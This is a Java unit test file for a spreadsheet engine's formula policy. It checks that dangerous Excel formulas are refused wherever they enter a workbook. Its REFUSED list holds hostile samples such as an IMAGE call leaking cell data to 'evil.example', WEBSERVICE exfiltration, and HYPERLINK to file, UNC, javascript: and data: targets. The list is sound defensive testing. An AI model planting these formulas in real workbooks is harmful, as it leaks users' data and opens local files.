package dev.sheetsmith.engine.xlsx.poi;

import dev.sheetsmith.ports.out.SpiCells;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sheetsmith.domain.CellRange;
import dev.sheetsmith.domain.CellValue;
import dev.sheetsmith.domain.ConditionalFormat;
import dev.sheetsmith.domain.Operand;
import dev.sheetsmith.domain.InvalidInputException;
import dev.sheetsmith.domain.SheetData;
import dev.sheetsmith.domain.ValidationRule;
import dev.sheetsmith.domain.WorkbookEdit;
import dev.sheetsmith.engine.xlsx.ExcelLikeWorkbook;
import dev.sheetsmith.engine.xlsx.RawSheet;
import dev.sheetsmith.engine.xlsx.XlsxFiles;
import dev.sheetsmith.engine.xlsx.edit.XlsxWorkbookEditor;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.function.Function;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The formula policy applied to formulas as POI parses them, wherever a formula goes into a
 * workbook: cells (the writer with and without the streaming writer, write_range, append_rows),
 * defined names, conditional-format rules and data validations. These formulas come straight to
 * the plugin, past the domain's text check, as a file another program wrote would.
 */
class FormulaPolicyTest {

    private static final String[] REFUSED = {
        "IMAGE(\"http://evil.example/p.png?d=\"&A1)", "_xlfn.IMAGE(\"https://example.com/logo.png\")",
        "WEBSERVICE(\"http://x/\"&A1)", "_xlfn.STOCKHISTORY(A1,TODAY())", "_xlfn.TRANSLATE(A1,\"en\",\"de\")",
        "HYPERLINK(\"file:///C:/Users/me/secret.xlsx\",\"open\")", "HYPERLINK(\"\\\\host\\share\\a.xlsx\")",
        "HYPERLINK(\"javascript:alert(1)\",\"x\")", "HYPERLINK(\"fi\"&\"le://host/x\")", "HYPERLINK(A1)",
        "HYPERLINK(A1&\"https://x\")", "HYPERLINK(LOWER(\"HTTPS://X\"))", "HYPERLINK((\"file://x\"),\"a\")",
        "IF(A1>0,HYPERLINK(\"data:text/html,x\"),0)", "HYPERLINK(\"#[other.xlsx]Sheet1!A1\")",
        "INDIRECT(\"[other.xlsx]Sheet1!A1\")", "INDIRECT(\"'C:\\x\\[a.xlsx]S'!A1\")",
        "INDIRECT(\"'\"&\"[a.xlsx]S'!A1\")", "INDIRECT(\"fi\"&\"le://\"&A1)", "SUM(INDIRECT(\"[1]Data!A1:A3\"))",
        "[1]Sheet1!A1", "SUM([2]Data!A1:A3)"};

    private static final String[] ALLOWED = {
        "HYPERLINK(\"https://example.com\",\"site\")", "HYPERLINK(\"http://intranet/page\")",
        "HYPERLINK(\"mailto:someone@example.org\",\"mail\")", "HYPERLINK(\"#Data!A1\",\"top\")",
        "HYPERLINK(\"https://example.com/?q=\"&A1,\"search\")", "HYPERLINK(\"mailto:\"&A1)",
        "INDIRECT(\"A\"&ROW())", "INDIRECT(\"Data!B\"&ROW())", "INDIRECT(A1)", "\"IMAGE(\"&A1",
        "CONCATENATE(\"file://\",\"x\")", "IF(A1>0,SUM(A1:A3),0)", "CHOOSE(2,\"a\",\"b\")"};

    @Test
    void writeRangeRefusesEachNamingTheCellAndAllowsTheRest() {
        byte[] book = book();
        for (String formula : REFUSED) {
            assertThatThrownBy(() -> edit(book, new WorkbookEdit.WriteRange("Data", CellRange.cell("C4"),
                    List.of(List.of(new CellValue.Formula(formula)))))).as(formula)
                    .isInstanceOf(InvalidInputException.class).hasMessageStartingWith("sheet 'Data', cell C4: ")
                    .hasMessageNotContaining("is not a formula");
        }
        for (String formula : ALLOWED) {
            byte[] out = edit(book, new WorkbookEdit.WriteRange("Data", CellRange.cell("C4"),
                    List.of(List.of(new CellValue.Formula(formula)))));
            assertThat(RawSheet.cells(out, "Data").get("C4")).as(formula).startsWith("=");
        }
    }

    @Test
    void theWriterAndAppendRowsRefuseThemToo() {
        for (String formula : REFUSED) {
            assertThatThrownBy(() -> write(List.of(List.of(new CellValue.Number(1), new CellValue.Formula(formula)))))
                    .as(formula).isInstanceOf(InvalidInputException.class)
                    .hasMessageStartingWith("sheet 'Data', cell B2: ").hasMessageNotContaining("is not a formula");
            assertThatThrownBy(() -> edit(book(), new WorkbookEdit.AppendRows("Data", new SheetData("Data", List.of(),
                    List.of(List.of(new CellValue.Number(1), new CellValue.Formula(formula)))))))
                    .as(formula).isInstanceOf(InvalidInputException.class)
                    .hasMessageStartingWith("sheet 'Data', cell B4: ");
        }
        for (String formula : ALLOWED) {
            write(List.of(List.of(new CellValue.Number(1), new CellValue.Formula(formula))));
            edit(book(), new WorkbookEdit.AppendRows("Data", new SheetData("Data", List.of(),
                    List.of(List.of(new CellValue.Number(1), new CellValue.Formula(formula))))));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"name", "rule", "validation"})
    void namesRulesAndValidationsHoldToTheSamePolicy(String where) {
        Function<String, WorkbookEdit> editFor = switch (where) {
            case "name" -> f -> new WorkbookEdit.SetDefinedName("Target", f, null, null);
            case "rule" -> f -> new WorkbookEdit.AddConditionalFormat("Data", CellRange.parse("A2:A3"),
                    new ConditionalFormat("formula", null, null, null, null, new Operand.Formula(f), null, null, false,
                            false,
                            new ConditionalFormat.Style(null, "FFC7CE", null, null)));
            default -> f -> new WorkbookEdit.AddValidation("Data", CellRange.parse("B2:B3"), new ValidationRule(
                    "custom", null, null, null, null, null, f, true, false, null, null, null, null, null));
        };
        byte[] book = book();
        for (String formula : REFUSED) {
            assertThatThrownBy(() -> edit(book, editFor.apply(formula))).as(formula)
                    .isInstanceOf(InvalidInputException.class)
                    .hasMessageMatching("(?s).*(not allowed|refused|another workbook|cannot be checked).*");
        }
        for (String formula : ALLOWED) {
            edit(book, editFor.apply(formula));
        }
    }

    @Test
    void aCopiedFormulaIsHeldToThePolicyAsWell() {
        // A file written elsewhere may hold a formula Sheetsmith would refuse; copying it spreads it.
        byte[] foreign = ExcelLikeWorkbook.zip(ExcelLikeWorkbook.parts("""
                <row r="1"><c r="A1" t="str"><f>HYPERLINK("file://host/share/a.xlsx")</f><v>x</v></c></row>""",
                "A1"));
        assertThatThrownBy(() -> edit(foreign, new WorkbookEdit.CopyRange("Data", CellRange.parse("A1"), null,
                CellRange.cell("B2")))).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith("sheet 'Data', cell B2: HYPERLINK to 'file://host/share/a.xlsx'");
    }

    private static byte[] book() {
        return write(List.of(List.of(new CellValue.Number(1), new CellValue.Text("a")),
                List.of(new CellValue.Number(2), new CellValue.Text("b"))));
    }

    private static byte[] write(List<List<CellValue>> rows) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            XlsxFiles.write(() -> List.of(SpiCells.sheet("Data", List.of("N", "T"), rows)), out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] edit(byte[] xlsx, WorkbookEdit edit) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            new XlsxWorkbookEditor().applyAll(new ByteArrayInputStream(xlsx), List.of(edit), out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
